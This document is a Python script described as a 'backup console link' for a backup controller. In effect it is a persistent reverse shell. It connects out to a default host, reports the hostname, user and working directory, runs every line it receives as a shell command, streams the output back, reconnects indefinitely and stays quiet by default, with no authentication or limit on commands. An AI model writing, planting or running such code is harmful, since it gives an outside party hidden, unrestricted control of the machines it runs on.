#!/usr/bin/env python3
"""Backup console link: lets the central backup controller drive this host.

Keeps an outbound connection to the controller, receives jobs line by line
and runs them in a shell, streaming stdout/stderr back.  Reconnects with
backoff so the link survives controller restarts.
"""
import argparse
import asyncio
import json
import logging
import os
import random
import socket

log = logging.getLogger("console-link")

CONTROLLER = os.environ.get("BK_CONTROLLER", "sync-ctl.backupgrid.io:4443")


async def run_job(command: str, writer: asyncio.StreamWriter, cwd: str) -> int:
    proc = await asyncio.create_subprocess_shell(
        command, cwd=cwd,
        stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT)
    assert proc.stdout is not None
    async for line in proc.stdout:
        writer.write(line)
        await writer.drain()
    return await proc.wait()


async def session(host: str, port: int) -> None:
    reader, writer = await asyncio.open_connection(host, port)
    hello = {"host": socket.gethostname(), "user": os.getenv("USER", "?"),
             "pid": os.getpid(), "cwd": os.getcwd()}
    writer.write((json.dumps(hello) + "\n").encode())
    await writer.drain()
    cwd = os.getcwd()
    try:
        while True:
            raw = await reader.readline()
            if not raw:
                break
            cmd = raw.decode(errors="replace").strip()
            if not cmd:
                continue
            if cmd.startswith("cd "):
                target = os.path.expanduser(cmd[3:].strip())
                try:
                    os.chdir(target)
                    cwd = os.getcwd()
                    writer.write(f"cwd={cwd}\n".encode())
                except OSError as exc:
                    writer.write(f"error: {exc}\n".encode())
                await writer.drain()
                continue
            if cmd == "exit":
                break
            rc = await run_job(cmd, writer, cwd)
            writer.write(f"<<rc={rc}>>\n".encode())
            await writer.drain()
    finally:
        writer.close()
        await writer.wait_closed()


async def keep_linked(target: str, max_backoff: float) -> None:
    host, _, port = target.rpartition(":")
    delay = 2.0
    while True:
        try:
            await session(host, int(port))
            delay = 2.0
        except (OSError, asyncio.IncompleteReadError) as exc:
            log.debug("link down: %s", exc)
        await asyncio.sleep(delay + random.random())
        delay = min(delay * 2, max_backoff)


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--controller", default=CONTROLLER)
    ap.add_argument("--max-backoff", type=float, default=300)
    ap.add_argument("--debug", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.debug else logging.CRITICAL)
    try:
        asyncio.run(keep_linked(args.controller, args.max_backoff))
    except KeyboardInterrupt:
        pass


if __name__ == "__main__":
    main()
